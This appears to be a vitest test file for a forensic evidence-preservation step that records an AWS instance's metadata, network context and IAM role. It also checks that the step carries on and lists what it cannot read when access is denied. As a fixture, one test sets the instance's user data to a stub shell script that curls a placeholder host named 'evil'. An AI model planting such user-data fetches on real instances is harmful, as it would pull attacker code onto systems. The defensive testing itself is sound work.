import { expect, it } from "vitest";
import type { Parts } from "../../src/aws/parts.ts";
import { instanceMetadata } from "../../src/steps/preserve/instance-metadata.ts";
import { onRange, type Bench } from "./bench.ts";
import { instanceOf, itemsOf, openVault } from "./evidence.ts";

async function collect(bench: Bench) {
  const vault = openVault();
  const [item] = itemsOf(instanceMetadata, await instanceMetadata.plan(bench.context, {}));
  const result = await instanceMetadata.collect({ ...bench.context, vault }, item!, null);
  const content = vault.contents.get(`instance-metadata/${bench.target.instanceId}.json`)!;
  const { parts } = JSON.parse(Buffer.from(content).toString()) as { readonly parts: Parts };
  const answer = (name: string): unknown => {
    const part = parts[name]!;
    return "answer" in part ? part.answer : part.error;
  };
  return { parts, answer, result };
}

it("describes the instance and what surrounds it, each part with its time", () =>
  onRange({}, async (bench) => {
    instanceOf(bench).userData = "#!/bin/sh\ncurl evil";
    const { parts, answer } = await collect(bench);
    expect(answer("attribute.userData")).toMatchObject({ UserData: { Value: "IyEvYmluL3NoCmN1cmwgZXZpbA==" } });
    expect(answer("instance")).toMatchObject([{ Instances: [{ InstanceId: bench.target.instanceId }] }]);
    expect(answer("interfaces")).toHaveLength(2);
    expect(answer("groups")).toMatchObject([{ GroupName: "payments-egress" }, { GroupName: "monitoring" }]);
    expect(answer("groupRules")).toHaveLength(3);
    expect(answer("networkAcls")).toHaveLength(3);
    expect(answer("endpoints")).toEqual([]);
    expect(answer("role.payroll-worker")).toMatchObject({ Role: { RoleName: "payroll-worker" } });
    expect(answer("role.payroll-worker.inlinePolicies")).toEqual(["read-and-write-exports"]);
    expect(answer("type")).toMatchObject({ InstanceTypes: [{ InstanceType: "m5.large" }] });
    expect(parts["instance"]?.readAt).toBe("2026-01-15T12:00:00.040Z");
    // Read when the interfaces had named them.
    expect(parts["groups"]?.readAt).toBe("2026-01-15T12:00:00.080Z");
  }));

it("goes on without a part that it may not read, and says which and why", () =>
  onRange({}, async (bench) => {
    const { range, clock } = bench;
    range.responder.setResponderPolicy({
      Version: "2012-10-17",
      Statement: [
        { Effect: "Allow", Action: "*", Resource: "*" },
        { Effect: "Deny", Action: ["iam:*", "ec2:DescribeInstanceAttribute"], Resource: "*" },
      ],
    });
    await clock.sleep(60_000);
    const { answer, result } = await collect(bench);
    expect(answer("profile")).toMatchObject({ code: "AccessDenied" });
    expect(answer("attribute.userData")).toMatchObject({ code: "UnauthorizedOperation" });
    expect(answer("volumes")).toHaveLength(1);
    expect(result).toMatchObject({
      artifacts: [
        {
          lineage: {
            unread: [
              "attribute.userData",
              "attribute.disableApiTermination",
              "attribute.disableApiStop",
              "attribute.instanceInitiatedShutdownBehavior",
              "profile",
            ],
          },
        },
      ],
    });
  }));

it("describes the scaling group, and the target groups that hold the instance with their load balancers", () =>
  onRange({ scenario: "ssh-intruder" }, async (bench) => {
    const { answer } = await collect(bench);
    expect(answer("scalingMembership")).toMatchObject([{ InstanceId: bench.target.instanceId }]);
    expect(answer("scalingGroup")).toMatchObject({ AutoScalingGroups: [{ DesiredCapacity: 2 }] });
    expect(answer("targetGroups")).toMatchObject([
      { targets: [{ TargetHealth: { State: "healthy" } }, { TargetHealth: { State: "healthy" } }] },
    ]);
    expect(answer("loadBalancers")).toMatchObject({ LoadBalancers: [{ Type: "application" }] });
  }));
